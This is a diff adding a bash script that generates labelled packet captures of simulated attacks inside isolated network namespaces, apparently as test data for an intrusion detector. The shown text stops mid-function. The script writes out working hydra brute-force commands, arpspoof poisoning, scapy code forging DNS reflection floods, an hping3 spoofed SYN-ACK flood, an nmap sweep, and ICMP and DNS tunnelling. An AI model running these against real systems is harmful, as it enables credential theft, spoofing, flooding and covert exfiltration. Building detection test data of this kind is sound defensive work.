@@ -1,0 +1,624 @@
+#!/usr/bin/env bash
+# Records real intrusion captures (password guessing, ARP spoofing, reflection, sweeps and tunnels) and a
+# healthy one for the detection tests.
+#
+# usage: make-intrusion-captures.sh OUTDIR
+#
+# Five private network namespaces (IPv4 only). Four hosts are joined by veth pairs to a bridge that lives in
+# the fifth, so they share one Ethernet segment 10.97.0.0/24 with fixed MAC addresses 02:97:00:00:00:<host>:
+#   gateway  10.97.0.1   (answers pings; the victim's default route, forwards nothing)
+#   victim   10.97.0.10  (plus 10.97.1.1-30 for the ping sweep) runs sshd on port 22, nginx on port 80 with
+#                        basic authentication on /admin/, vsftpd on port 21 and dnsmasq on port 53
+#   client   10.97.0.20  (the healthy scenario's user)
+#   attacker 10.97.0.66  (routes 10.97.1.0/24 through the victim, so unanswered sweep probes still reach it)
+# A test user exists only for the victim's daemons: they run in a private mount namespace that binds copies
+# of passwd, shadow and group (with the user added) over /etc, so the machine's own accounts stay untouched.
+# tcpdump captures the victim's interface into OUTDIR/<scenario>.pcap while one scenario runs; the server
+# logs of the scenario go to OUTDIR/logs/<scenario>.txt with the tools' output, and OUTDIR/manifest.tsv lists
+# the scenarios and the finding kind each should produce ("none" for the healthy one):
+#   healthy-logins     5 ssh logins (sshpass, one command each), 5 HTTP fetches with the right basic-auth
+#                      credentials, 5 DNS lookups and 5 pings from the client, about one a second
+#   hydra-ssh          hydra against sshd: 40 wrong passwords, then the right one (sshd lets a connection
+#                      try 6, so about 9 connections)
+#   hydra-http         hydra http-get against nginx's /admin/: 60 wrong passwords, then the right one
+#   hydra-ftp          hydra against vsftpd: 40 wrong passwords, then the right one (PAM answers a wrong
+#                      one after about 2 s; 3 tries a connection)
+#   arpspoof           dsniff's arpspoof tells the victim for 8 s that 10.97.0.1 is at the attacker's MAC
+#                      while the victim pings the gateway once a second
+#   dns-reflection     scapy: 2000 forged DNS responses (no query was sent) from 50 spoofed reflectors
+#                      10.97.200.1-50 to random ports in 3 s, the TXT ones (2.6 KB) IP-fragmented
+#   synack-reflection  hping3: 3000 SYN-ACKs from random sources, source port 80 or 443, that the victim
+#                      never asked for (it answers each with a reset)
+#   ping-sweep         nmap -sn -PE of 10.97.1.1-60: 30 addresses answer, 30 do not
+#   icmp-tunnel        scapy: 300 echo requests carrying 40-1000 random bytes each, answered by the victim
+#   dns-tunnel         iodine through iodined when /dev/net/tun works in the namespaces (pings, an HTTP upload
+#                      and a download through the tunnel: NULL queries under t.tunnel.test); otherwise 400
+#                      dig queries (TXT, NULL, CNAME) with two long base32 labels under t.tunnel.test
+#
+# Nothing outside the namespaces this script creates is touched: every address lives inside them, forged
+# sources are answered through the gateway's namespace, where the answers end (it forwards nothing), and
+# every tool is bounded in packets and time.
+# It takes about 90 s (the bound is 170 s). For work on one scenario, NT_INTRUSIONS_ONLY="name ..." records
+# only those, and NT_INTRUSIONS_NO_TUN=1 takes the dig variant of dns-tunnel.
+# Exit status: 0 when every capture was made and shows its traffic; 77 when this machine cannot run it (not
+# root, no network namespaces, a tool missing: the last line on standard error says why); 1 on a failure.
+set -euo pipefail
+
+if [ -z "${NT_INTRUSIONS_BOUNDED:-}" ]; then
+  export NT_INTRUSIONS_BOUNDED=1
+  exec timeout --kill-after=10 170 "$0" "$@"
+fi
+
+readonly SKIP=77
+skip() { echo "make-intrusion-captures: cannot run here: $*" >&2; exit "$SKIP"; }
+fail() { echo "make-intrusion-captures: $*" >&2; exit 1; }
+note() { echo "make-intrusion-captures: $*" >&2; }
+
+[ $# -eq 1 ] || { echo "usage: $0 OUTDIR" >&2; exit 2; }
+[ "$(id -u)" -eq 0 ] || skip "must run as root (network namespaces, tcpdump and the daemons need it)"
+missing=()
+for tool in ip ss sysctl tcpdump timeout unshare mount openssl nginx dnsmasq dig curl ping nmap hping3 hydra sshd ssh \
+    ssh-keygen sshpass vsftpd arpspoof iodine iodined; do
+  command -v "$tool" >/dev/null 2>&1 || missing+=("$tool")
+done
+# Debian's python3-scapy serves the system's python3, which may not be the first python3 on the PATH.
+PYTHON=""
+for candidate in /usr/bin/python3 python3; do
+  if command -v "$candidate" >/dev/null 2>&1 && "$candidate" -c 'import scapy.all' >/dev/null 2>&1; then
+    PYTHON=$(command -v "$candidate")
+    break
+  fi
+done
+[ -n "$PYTHON" ] || missing+=("scapy (python3 -c 'import scapy')")
+[ ${#missing[@]} -eq 0 ] || skip "missing tools: ${missing[*]}"
+SSHD=$(command -v sshd)
+VSFTPD=$(command -v vsftpd)
+readonly PYTHON SSHD VSFTPD
+
+mkdir -p "$1"
+OUT=$(cd "$1" && pwd)
+rm -f "$OUT"/*.pcap "$OUT/manifest.tsv"
+rm -rf "$OUT/logs"
+mkdir -p "$OUT/logs"
+
+readonly SUFFIX=$$
+readonly NS_L="nt-intr-lan-$SUFFIX" NS_G="nt-intr-gw-$SUFFIX" NS_V="nt-intr-victim-$SUFFIX" \
+  NS_C="nt-intr-client-$SUFFIX" NS_A="nt-intr-attacker-$SUFFIX"
+readonly GATEWAY_IP=10.97.0.1 VICTIM_IP=10.97.0.10 CLIENT_IP=10.97.0.20 ATTACKER_IP=10.97.0.66
+readonly GATEWAY_MAC=02:97:00:00:00:01 VICTIM_MAC=02:97:00:00:00:10 CLIENT_MAC=02:97:00:00:00:20 \
+  ATTACKER_MAC=02:97:00:00:00:66
+readonly TEST_USER=triage TEST_UID=61097 TEST_PASSWORD=Correct-Horse-97
+readonly WEB_USER=admin WEB_PASSWORD=Battery-Staple-97
+readonly TMP_ROOT=${TMPDIR:-/tmp}
+WORK=$(mktemp -d "$TMP_ROOT/nt-intr-$SUFFIX.XXXXXX")
+readonly WORK
+declare -A PIDS=()
+# remove_namespace, start_bg, stop_bg
+# shellcheck source=lib/netns.sh
+source "$(dirname "$0")/lib/netns.sh"
+# hydra keeps its restore file in the current folder.
+cd "$WORK"
+
+cleanup() {
+  local status=$? name
+  trap - EXIT INT TERM
+  for name in "${!PIDS[@]}"; do kill -TERM "${PIDS[$name]}" 2>/dev/null || true; done
+  for name in "${!PIDS[@]}"; do
+    timeout 5 tail --pid="${PIDS[$name]}" -f /dev/null 2>/dev/null || kill -KILL "${PIDS[$name]}" 2>/dev/null || true
+  done
+  for ns in "$NS_A" "$NS_C" "$NS_V" "$NS_G" "$NS_L"; do remove_namespace "$ns"; done
+  cd /
+  rm -rf "$WORK"
+  exit "$status"
+}
+trap cleanup EXIT
+trap 'exit 130' INT
+trap 'exit 143' TERM
+
+# Namespaces and folders left by an earlier run that was killed outright are removed.
+for ns in $(ip netns list 2>/dev/null | awk '{print $1}'); do
+  if [[ $ns =~ ^nt-intr-(lan|gw|victim|client|attacker)-([0-9]+)$ ]] && ! kill -0 "${BASH_REMATCH[2]}" 2>/dev/null; then
+    remove_namespace "$ns"
+  fi
+done
+for dir in "$TMP_ROOT"/nt-intr-*; do
+  if [[ $dir =~ /nt-intr-([0-9]+)\.[^/]+$ ]] && ! kill -0 "${BASH_REMATCH[1]}" 2>/dev/null; then rm -rf "$dir"; fi
+done
+
+in_ns() { local ns=$1; shift; timeout 60 ip netns exec "$ns" "$@"; }
+
+# --- topology ---------------------------------------------------------------------------------------
+err=$(timeout 10 ip netns add "$NS_L" 2>&1) || skip "cannot create a network namespace (ip netns add: $err)"
+for ns in "$NS_G" "$NS_V" "$NS_C" "$NS_A"; do timeout 10 ip netns add "$ns"; done
+for ns in "$NS_L" "$NS_G" "$NS_V" "$NS_C" "$NS_A"; do
+  in_ns "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1 \
+    net.ipv4.ip_forward=0
+  timeout 10 ip -n "$ns" link set lo up
+done
+# The victim takes the forged sources of the reflection scenarios as they come (no reverse-path filter).
+in_ns "$NS_V" sysctl -qw net.ipv4.conf.all.rp_filter=0 net.ipv4.conf.default.rp_filter=0
+err=$(timeout 10 ip -n "$NS_L" link add br0 type bridge stp_state 0 forward_delay 0 2>&1) \
+  || skip "cannot create a bridge in a network namespace ($err)"
+timeout 10 ip -n "$NS_L" link set br0 up
+# host namespace, interface, MAC address, IPv4 address
+for host in "$NS_G g0 $GATEWAY_MAC $GATEWAY_IP" "$NS_V v0 $VICTIM_MAC $VICTIM_IP" \
+    "$NS_C c0 $CLIENT_MAC $CLIENT_IP" "$NS_A a0 $ATTACKER_MAC $ATTACKER_IP"; do
+  read -r ns dev mac addr <<<"$host"
+  timeout 10 ip -n "$ns" link add "$dev" address "$mac" type veth peer name "p$dev" netns "$NS_L"
+  timeout 10 ip -n "$NS_L" link set "p$dev" master br0 up
+  timeout 10 ip -n "$ns" addr add "$addr/24" dev "$dev"
+  timeout 10 ip -n "$ns" link set "$dev" up
+done
+for i in $(seq 1 30); do timeout 10 ip -n "$NS_V" addr add "10.97.1.$i/32" dev v0; done
+timeout 10 ip -n "$NS_V" route add default via "$GATEWAY_IP"
+timeout 10 ip -n "$NS_A" route add 10.97.1.0/24 via "$VICTIM_IP"
+for ns in "$NS_G" "$NS_C" "$NS_A"; do
+  in_ns "$ns" ping -c 1 -W 2 "$VICTIM_IP" >/dev/null 2>&1 || fail "$ns cannot reach the victim after setup"
+done
+
+# --- the test user, for the victim's daemons only ---------------------------------------------------
+{ cat /etc/passwd; echo "$TEST_USER:x:$TEST_UID:$TEST_UID:NetTriage test user:/:/bin/sh"; } >"$WORK/passwd"
+{ cat /etc/group; echo "$TEST_USER:x:$TEST_UID:"; } >"$WORK/group"
+{
+  echo "root:*:19000:0:99999:7:::"
+  echo "$TEST_USER:$(openssl passwd -6 "$TEST_PASSWORD"):19000:0:99999:7:::"
+} >"$WORK/shadow"
+chmod 600 "$WORK/shadow"
+# The command before a daemon's: a private mount namespace where the copies above are /etc's.
+# shellcheck disable=SC2016 # expanded by the inner sh
+readonly WITH_USER=(unshare --mount --propagation private sh -c \
+  'mount --bind "$1" /etc/passwd && mount --bind "$2" /etc/shadow && mount --bind "$3" /etc/group && shift 3 && exec "$@"' \
+  sh "$WORK/passwd" "$WORK/shadow" "$WORK/group")
+
+# --- services on the victim -------------------------------------------------------------------------
+wait_listening() {
+  local flag=$1 port=$2
+  for _ in $(seq 50); do
+    [ -n "$(in_ns "$NS_V" ss "$flag" "sport = :$port")" ] && return 0
+    sleep 0.1
+  done
+  fail "nothing listens on port $port in the victim namespace"
+}
+
+# sshd: password authentication without PAM (no login delay), host key of its own.
+ssh-keygen -q -t ed25519 -N "" -f "$WORK/ssh_host_ed25519_key"
+cat >"$WORK/sshd_config" <<EOF
+Port 22
+ListenAddress $VICTIM_IP
+HostKey $WORK/ssh_host_ed25519_key
+PidFile $WORK/sshd.pid
+UsePAM no
+PasswordAuthentication yes
+KbdInteractiveAuthentication no
+PubkeyAuthentication no
+PermitRootLogin no
+AllowUsers $TEST_USER
+StrictModes no
+MaxStartups 20:30:60
+LogLevel VERBOSE
+EOF
+# sshd's privilege separation folder (Debian creates it only when the service starts).
+mkdir -p /run/sshd
+chmod 755 /run/sshd
+start_bg sshd "$NS_V" "${WITH_USER[@]}" "$SSHD" -D -e -f "$WORK/sshd_config"
+
+# nginx: a page, and /admin/ behind basic authentication.
+mkdir -p "$WORK/www/admin"
+echo "welcome" >"$WORK/www/index.html"
+echo "admin console" >"$WORK/www/admin/index.html"
+head -c 24000 /dev/urandom | base64 >"$WORK/www/data.txt"
+printf '%s:%s\n' "$WEB_USER" "$(openssl passwd -apr1 "$WEB_PASSWORD")" >"$WORK/htpasswd"
+cat >"$WORK/nginx.conf" <<EOF
+user root;
+worker_processes 1;
+daemon off;
+pid $WORK/nginx.pid;
+error_log $WORK/nginx-error.log info;
+events { worker_connections 512; }
+http {
+  access_log $WORK/nginx-access.log;
+  client_body_temp_path $WORK/nginx-body;
+  proxy_temp_path $WORK/nginx-proxy;
+  fastcgi_temp_path $WORK/nginx-fastcgi;
+  uwsgi_temp_path $WORK/nginx-uwsgi;
+  scgi_temp_path $WORK/nginx-scgi;
+  server {
+    listen 80;
+    default_type text/plain;
+    root $WORK/www;
+    location /admin/ {
+      auth_basic "NetTriage admin";
+      auth_basic_user_file $WORK/htpasswd;
+    }
+  }
+}
+EOF
+start_bg web "$NS_V" nginx -p "$WORK" -e "$WORK/nginx-error.log" -c "$WORK/nginx.conf"
+
+# vsftpd: local users through PAM (whose pam_unix waits about 2 s after a wrong password; vsftpd's own extra
+# second is off to keep the scenario short), three failures per connection.
+mkdir -p "$WORK/vsftpd-empty"
+chmod 755 "$WORK/vsftpd-empty"
+cat >"$WORK/vsftpd.conf" <<EOF
+listen=YES
+listen_ipv6=NO
+listen_address=$VICTIM_IP
+listen_port=21
+background=NO
+anonymous_enable=NO
+local_enable=YES
+write_enable=NO
+pam_service_name=vsftpd
+secure_chroot_dir=$WORK/vsftpd-empty
+seccomp_sandbox=NO
+isolate=NO
+isolate_network=NO
+session_support=NO
+delay_failed_login=0
+max_login_fails=3
+xferlog_enable=YES
+xferlog_std_format=NO
+log_ftp_protocol=YES
+vsftpd_log_file=$WORK/vsftpd.log
+syslog_enable=NO
+EOF
+start_bg ftp "$NS_V" "${WITH_USER[@]}" "$VSFTPD" "$WORK/vsftpd.conf"
+
+start_bg dns "$NS_V" dnsmasq --keep-in-foreground --no-resolv --no-hosts --user=root --bind-interfaces \
+  --listen-address="$VICTIM_IP" --port=53 --pid-file="$WORK/dnsmasq.pid" --log-queries --log-facility=- \
+  --address=/www.example.test/"$VICTIM_IP" --address=/mail.example.test/"$VICTIM_IP" \
+  --address=/tunnel.test/"$VICTIM_IP" --local=/tunnel.test/ --txt-record=t.tunnel.test,ok
+wait_listening -Hltn 22
+wait_listening -Hltn 80
+wait_listening -Hltn 21
+wait_listening -Hlun 53
+
+# --- the forging tool -------------------------------------------------------------------------------
+# Builds the frames with scapy and sends them through a packet socket on the attacker's interface, paced
+# over a given time. usage: forge.py dns-reflection|icmp-tunnel IFACE SRC_MAC DST_MAC SRC_IP DST_IP
+cat >"$WORK/forge.py" <<'EOF'
+import functools, operator, os, random, socket, sys, time
+from scapy.all import DNS, DNSQR, DNSRR, ICMP, IP, UDP, Ether, Raw, fragment
+
+mode, iface, src_mac, dst_mac, src_ip, dst_ip = sys.argv[1:7]
+rng = random.Random(97)
+eth = Ether(src=src_mac, dst=dst_mac)
+
+def send_paced(groups, seconds):
+    """Sends each group of frames back to back, the groups spread evenly over the given seconds."""
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    s.bind((iface, 0))
+    start = time.monotonic()
+    frames = 0
+    for i, group in enumerate(groups):
+        delay = start + seconds * i / len(groups) - time.monotonic()
+        if delay > 0:
+            time.sleep(delay)
+        for frame in group:
+            s.send(frame)
+            frames += 1
+    print(f"{mode}: sent {len(groups)} packets in {frames} frames in {time.monotonic() - start:.1f} s")
+
+def chain(records):
+    return functools.reduce(operator.truediv, records)
+
+if mode == "dns-reflection":
+    # What open resolvers send back when the attacker asks them, with the victim's address as the source,
+    # for a big TXT record set (2.6 KB: two IP fragments) or a long list of addresses.
+    txt_name, a_name = b"amp.reflect.test.", b"cdn.reflect.test."
+    txt = bytes(DNS(qr=1, rd=1, ra=1, qd=DNSQR(qname=txt_name, qtype="TXT"), an=chain(
+        [DNSRR(rrname=txt_name, type="TXT", ttl=300,
+               rdata=[b"v=spf1 include:_spf%d.reflect.test " % i + b"x" * 200]) for i in range(10)])))
+    addresses = bytes(DNS(qr=1, rd=1, ra=1, qd=DNSQR(qname=a_name, qtype="A"), an=chain(
+        [DNSRR(rrname=a_name, type="A", ttl=60, rdata=f"192.0.2.{i + 1}") for i in range(24)])))
+    groups = []
+    for i in range(2000):
+        body = txt if i % 2 == 0 else addresses
+        body = rng.getrandbits(16).to_bytes(2, "big") + body[2:]
+        packet = IP(src=f"10.97.200.{i % 50 + 1}", dst=dst_ip, id=rng.getrandbits(16)) / \
+            UDP(sport=53, dport=rng.randint(1024, 65535)) / Raw(body)
+        groups.append([bytes(eth / f) for f in fragment(packet, fragsize=1480)])
+    send_paced(groups, 3.0)
+elif mode == "icmp-tunnel":
+    # A data channel: one echo identifier, consecutive sequence numbers, random bytes of varying size.
+    groups = []
+    for seq in range(300):
+        payload = os.urandom(rng.randint(40, 1000))
+        groups.append([bytes(eth / IP(src=src_ip, dst=dst_ip, id=rng.getrandbits(16)) /
+                             ICMP(type=8, id=0x5154, seq=seq) / Raw(payload))])
+    send_paced(groups, 3.0)
+else:
+    sys.exit(f"unknown mode {mode}")
+EOF
+
+# --- capture ----------------------------------------------------------------------------------------
+capture_start() {
+  local scenario=$1
+  : >"$WORK/tcpdump.err"
+  timeout --kill-after=5 90 ip netns exec "$NS_V" \
+    tcpdump -i v0 -n -s 0 -U -Z root -w "$OUT/$scenario.pcap" 2>"$WORK/tcpdump.err" &
+  PIDS[tcpdump]=$!
+  for _ in $(seq 50); do
+    grep -q 'listening on' "$WORK/tcpdump.err" && return 0
+    kill -0 "${PIDS[tcpdump]}" 2>/dev/null || break
+    sleep 0.1
+  done
+  fail "tcpdump did not start: $(cat "$WORK/tcpdump.err")"
+}
+
+capture_stop() {
+  local scenario=$1
+  sleep 1
+  stop_bg tcpdump INT
+  cat "$WORK/tcpdump.err" >>"$OUT/logs/$scenario.txt"
+  [ -s "$OUT/$scenario.pcap" ] || fail "no capture written for $scenario"
+}
+
+# Packets of the current scenario's capture that match a tcpdump filter.
+count() { tcpdump -n -r "$OUT/$SCENARIO.pcap" "$@" 2>/dev/null | wc -l; }
+
+# Fails the scenario unless at least MIN packets of its capture match the filter.
+expect() {
+  local min=$1 what=$2; shift 2
+  local n
+  n=$(count "$@")
+  echo "check: $n packets of $what (at least $min expected)" >>"$OUT/logs/$SCENARIO.txt"
+  [ "$n" -ge "$min" ] || fail "$SCENARIO: only $n packets of $what in the capture (at least $min expected)"
+}
+
+# Appends what a daemon logged since the scenario began to the scenario's log.
+server_log() {
+  local file=$1
+  { echo "--- ${file##*/}"; cat "$file" 2>/dev/null || true; } >>"$OUT/logs/$SCENARIO.txt"
+}
+
+logged() { "$@" >>"$OUT/logs/$SCENARIO.txt" 2>&1; }
+
+printf 'scenario\tpcap\texpected_kind\tdescription\n' >"$WORK/manifest.tsv"
+
+# One scenario: capture at the victim while its function runs, then check the capture.
+run() {
+  local scenario=$1 kind=$2 description=$3 action=$4 log
+  if [ -n "${NT_INTRUSIONS_ONLY:-}" ] && [[ " $NT_INTRUSIONS_ONLY " != *" $scenario "* ]]; then return 0; fi
+  SCENARIO=$scenario
+  local started=$SECONDS
+  : >"$OUT/logs/$scenario.txt"
+  for log in sshd.out ftp.out dns.out web.out nginx-error.log vsftpd.log; do : >"$WORK/$log"; done
+  capture_start "$scenario"
+  "$action" || fail "$scenario: the tools failed (see $OUT/logs/$scenario.txt)"
+  capture_stop "$scenario"
+  "check_$action"
+  printf '%s\t%s\t%s\t%s\n' "$scenario" "$scenario.pcap" "$kind" "$description" >>"$WORK/manifest.tsv"
+  note "$scenario: $(count) packets, $(stat -c %s "$OUT/$scenario.pcap") bytes, $((SECONDS - started)) s"
+}
+
+# A list of common passwords, none of them right.
+wordlist() {
+  local n=$1 right=$2
+  printf '%s\n' 123456 password 12345678 qwerty 123456789 12345 1234 111111 1234567 dragon 123123 baseball \
+    abc123 football monkey letmein 696969 shadow master 666666 qwertyuiop 123321 mustang 1234567890 michael \
+    654321 superman 1qaz2wsx 7777777 121212 000000 qazwsx 123qwe killer trustno1 jordan jennifer zxcvbnm \
+    asdfgh hunter buster soccer harley batman andrew tigger sunshine iloveyou 2000 charlie robert thomas \
+    hockey ranger daniel starwars klaster 112233 george computer michelle jessica pepper 1111 zxcvbn \
+    | head -n "$n"
+  echo "$right"
+}
+
+# Succeeds when hydra reported the right password for the user.
+hydra_found() { grep -Eq "login: $1 +password: $2\$" "$OUT/logs/$SCENARIO.txt"; }
+
+# --- scenarios --------------------------------------------------------------------------------------
+SSH_CLIENT=(ssh -F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR
+  -o PreferredAuthentications=password -o PubkeyAuthentication=no -o ConnectTimeout=5)
+
+healthy_logins() {
+  local i
+  for i in $(seq 1 5); do
+    logged in_ns "$NS_C" sshpass -p "$TEST_PASSWORD" "${SSH_CLIENT[@]}" "$TEST_USER@$VICTIM_IP" "echo login $i; id -un" \
+      || return 1
+    logged in_ns "$NS_C" curl -sS -f --max-time 5 -u "$WEB_USER:$WEB_PASSWORD" "http://$VICTIM_IP/admin/" || return 1
+    logged in_ns "$NS_C" dig +short +tries=1 +timeout=2 @"$VICTIM_IP" www.example.test || return 1
+    logged in_ns "$NS_C" ping -c 1 -W 2 "$VICTIM_IP" || return 1
+    sleep 1
+  done
+  server_log "$WORK/sshd.out"
+}
+check_healthy_logins() {
+  expect 5 "ssh connections" 'tcp dst port 22 and tcp[tcpflags] == tcp-syn'
+  expect 5 "HTTP 200 answers" 'tcp src port 80 and tcp[((tcp[12] >> 4) * 4):4] == 0x48545450 and
+    tcp[((tcp[12] >> 4) * 4) + 9:4] == 0x32303020'
+  expect 5 "DNS answers" 'udp src port 53'
+  expect 5 "echo replies" 'icmp[icmptype] == icmp-echoreply'
+  [ "$(grep -c '^Accepted password for' "$OUT/logs/$SCENARIO.txt")" -eq 5 ] || fail "$SCENARIO: sshd did not accept 5 logins"
+}
+
+hydra_ssh() {
+  wordlist 40 "$TEST_PASSWORD" >"$WORK/ssh-words.txt"
+  # hydra tries passwords on a connection until sshd closes it (6 failures), then waits -w seconds (32 by
+  # default) before it goes on: 3 s keep the scenario short.
+  logged in_ns "$NS_A" hydra -I -t 4 -w 3 -f -l "$TEST_USER" -P "$WORK/ssh-words.txt" "ssh://$VICTIM_IP" || return 1
+  server_log "$WORK/sshd.out"
+  hydra_found "$TEST_USER" "$TEST_PASSWORD"
+}
+check_hydra_ssh() {
+  expect 8 "ssh connections" 'tcp dst port 22 and tcp[tcpflags] == tcp-syn'
+  [ "$(grep -c '^Failed password for' "$OUT/logs/$SCENARIO.txt")" -ge 30 ] || fail "$SCENARIO: sshd rejected too few passwords"
+  grep -q '^Accepted password for' "$OUT/logs/$SCENARIO.txt" || fail "$SCENARIO: sshd accepted no password"
+}
+
+hydra_http() {
+  wordlist 60 "$WEB_PASSWORD" >"$WORK/http-words.txt"
+  logged in_ns "$NS_A" hydra -I -t 4 -w 10 -f -l "$WEB_USER" -P "$WORK/http-words.txt" "$VICTIM_IP" http-get /admin/ \
+    || return 1
+  server_log "$WORK/nginx-error.log"
+  hydra_found "$WEB_USER" "$WEB_PASSWORD"
+}
+check_hydra_http() {
+  expect 50 "401 answers" 'tcp src port 80 and tcp[((tcp[12] >> 4) * 4):4] == 0x48545450 and
+    tcp[((tcp[12] >> 4) * 4) + 9:4] == 0x34303120'
+  expect 1 "200 answers" 'tcp src port 80 and tcp[((tcp[12] >> 4) * 4):4] == 0x48545450 and
+    tcp[((tcp[12] >> 4) * 4) + 9:4] == 0x32303020'
+}
+
+hydra_ftp() {
+  wordlist 40 "$TEST_PASSWORD" >"$WORK/ftp-words.txt"
+  # -w stays above PAM's delay, or hydra takes the slow refusals for lost answers.
+  logged in_ns "$NS_A" hydra -I -t 4 -w 10 -f -l "$TEST_USER" -P "$WORK/ftp-words.txt" "ftp://$VICTIM_IP" || return 1
+  server_log "$WORK/vsftpd.log"
+  hydra_found "$TEST_USER" "$TEST_PASSWORD"
+}
+check_hydra_ftp() {
+  expect 35 "'530 Login incorrect' answers" 'tcp src port 21 and tcp[((tcp[12] >> 4) * 4):4] == 0x35333020'
+  expect 1 "'230 Login successful' answers" 'tcp src port 21 and tcp[((tcp[12] >> 4) * 4):4] == 0x32333020'
+}
+
+arpspoof_victim() {
+  # The victim's first ping asks for the gateway's real address; arpspoof then claims it for 8 s and,
+  # stopped, sends the real one back a few times.
+  timeout 10 ip -n "$NS_V" neigh flush all
+  in_ns "$NS_V" ping -c 14 -i 1 -W 1 "$GATEWAY_IP" >"$WORK/arp-ping.out" 2>&1 &
+  PIDS[arp-ping]=$!
+  sleep 1.5
+  local status=0
+  logged in_ns "$NS_A" timeout -s INT --kill-after=8 8 arpspoof -i a0 -t "$VICTIM_IP" "$GATEWAY_IP" || status=$?
+  # The victim's pings are lost while its ARP entry points to the attacker, so ping fails: not a failure.
+  wait "${PIDS[arp-ping]}" || true
+  unset "PIDS[arp-ping]"
+  cat "$WORK/arp-ping.out" >>"$OUT/logs/$SCENARIO.txt"
+  timeout 10 ip -n "$NS_V" neigh >>"$OUT/logs/$SCENARIO.txt"
+  # timeout reports 124 when it stopped arpspoof, as planned.
+  [ "$status" -eq 124 ] || [ "$status" -eq 0 ]
+}
+check_arpspoof_victim() {
+  expect 1 "ARP replies from the gateway's own MAC" "arp and ether src $GATEWAY_MAC and arp[6:2] == 2"
+  expect 3 "ARP replies from the attacker claiming $GATEWAY_IP at its MAC" \
+    "arp and ether src $ATTACKER_MAC and arp[6:2] == 2 and arp[14:4] == 0x0a610001 and arp[8:4] == 0x02970000 and arp[12:2] == 0x0066"
+  expect 5 "echo requests to the gateway" "icmp[icmptype] == icmp-echo and dst host $GATEWAY_IP"
+  # The victim's neighbour entry for the gateway is reset for the scenarios that follow.
+  timeout 10 ip -n "$NS_V" neigh flush all
+}
+
+dns_reflection() {
+  logged in_ns "$NS_A" "$PYTHON" "$WORK/forge.py" dns-reflection a0 "$ATTACKER_MAC" "$VICTIM_MAC" "$ATTACKER_IP" "$VICTIM_IP"
+}
+check_dns_reflection() {
+  expect 1900 "DNS responses from port 53" 'udp src port 53 and ip[6:2] & 0x1fff == 0'
+  expect 900 "trailing IP fragments" 'ip[6:2] & 0x1fff != 0'
+  [ "$(count "udp dst port 53 and src host $VICTIM_IP")" -eq 0 ] || fail "$SCENARIO: the victim sent DNS queries"
+}
+
+synack_reflection() {
+  local port status
+  # hping3 exits 1 when probes got no answer (forged sources never get one).
+  for port in 80 443; do
+    status=0
+    logged in_ns "$NS_A" hping3 -q -S -A -s "$port" -k -p ++20000 -i u1000 -c 1500 --rand-source "$VICTIM_IP" \
+      || status=$?
+    [ "$status" -eq 0 ] || [ "$status" -eq 1 ] || return 1
+  done
+}
+check_synack_reflection() {
+  expect 2900 "SYN-ACKs from ports 80 and 443" \
+    'tcp[tcpflags] & (tcp-syn|tcp-ack) == (tcp-syn|tcp-ack) and (tcp src port 80 or tcp src port 443)'
+}
+
+ping_sweep() {
+  logged in_ns "$NS_A" nmap -n -sn -PE --disable-arp-ping -T4 10.97.1.1-60
+}
+check_ping_sweep() {
+  expect 60 "echo requests" 'icmp[icmptype] == icmp-echo and dst net 10.97.1.0/24'
+  expect 30 "echo replies" 'icmp[icmptype] == icmp-echoreply and src net 10.97.1.0/24'
+}
+
+icmp_tunnel() {
+  logged in_ns "$NS_A" "$PYTHON" "$WORK/forge.py" icmp-tunnel a0 "$ATTACKER_MAC" "$VICTIM_MAC" "$ATTACKER_IP" "$VICTIM_IP"
+}
+check_icmp_tunnel() {
+  expect 300 "echo requests" 'icmp[icmptype] == icmp-echo'
+  expect 290 "echo replies" 'icmp[icmptype] == icmp-echoreply'
+}
+
+# iodine needs a tun device in each namespace.
+tun_works() {
+  timeout 10 ip -n "$NS_V" tuntap add dev nttun mode tun 2>/dev/null || return 1
+  timeout 10 ip -n "$NS_V" link delete nttun
+}
+
+dns_tunnel_iodine() {
+  # iodined answers on the victim's port 53 in place of dnsmasq.
+  stop_bg dns
+  start_bg iodined "$NS_V" iodined -f -c -l "$VICTIM_IP" -p 53 -P tunnel-secret-97 10.97.250.1/27 t.tunnel.test
+  wait_listening -Hlun 53
+  start_bg iodine "$NS_A" iodine -f -r -P tunnel-secret-97 "$VICTIM_IP" t.tunnel.test
+  # The tunnel's address is set before iodine has tuned its codecs and fragment size: wait for the end.
+  local up=""
+  for _ in $(seq 150); do
+    if grep -q 'Connection setup complete' "$WORK/iodine.out"; then up=1; break; fi
+    sleep 0.1
+  done
+  [ -n "$up" ] || { cat "$WORK/iodine.out" "$WORK/iodined.out" >>"$OUT/logs/$SCENARIO.txt"; return 1; }
+  # Through the tunnel: pings, an upload (random bytes, refused by nginx once read) and a download.
+  head -c 48000 /dev/urandom >"$WORK/upload.bin"
+  logged in_ns "$NS_A" ping -c 5 -i 0.2 -W 5 10.97.250.1 || return 1
+  logged in_ns "$NS_A" curl -sS --max-time 30 -H 'Expect:' --data-binary @"$WORK/upload.bin" -o /dev/null \
+    -w 'uploaded %{size_upload} bytes, answer %{http_code}\n' http://10.97.250.1/upload || return 1
+  logged in_ns "$NS_A" curl -sS -f --max-time 30 -o /dev/null -w 'downloaded %{size_download} bytes\n' \
+    http://10.97.250.1/data.txt || return 1
+  stop_bg iodine
+  stop_bg iodined
+  cat "$WORK/iodine.out" "$WORK/iodined.out" >>"$OUT/logs/$SCENARIO.txt"
+}
+
+dns_tunnel_dig() {
+  # Each query carries 35 random bytes as two base32 labels of 28 characters, as a tunnel's upstream data
+  # would; dig sends them 25 at a time (one batch file each), every half second.
+  local types=(TXT NULL CNAME TXT) n=0 name
+  mkdir -p "$WORK/dig"
+  while read -r name; do
+    echo "@$VICTIM_IP +tries=1 +timeout=1 -t ${types[n % 4]} ${name:0:28}.${name:28}.t.tunnel.test" \
+      >>"$WORK/dig/batch-$((n / 25 + 100))"
+    n=$((n + 1))
+  done < <(head -c 14000 /dev/urandom | base32 -w 56 | tr '[:upper:]' '[:lower:]')
+  local batch
+  for batch in "$WORK"/dig/batch-*; do
+    in_ns "$NS_A" dig -f "$batch" >/dev/null || return 1
+    sleep 0.45
+  done
+  echo "sent $n queries with dig" >>"$OUT/logs/$SCENARIO.txt"
+  server_log "$WORK/dns.out"
+}
+check_dns_tunnel_iodine() {
+  expect 300 "queries under t.tunnel.test" 'udp dst port 53'
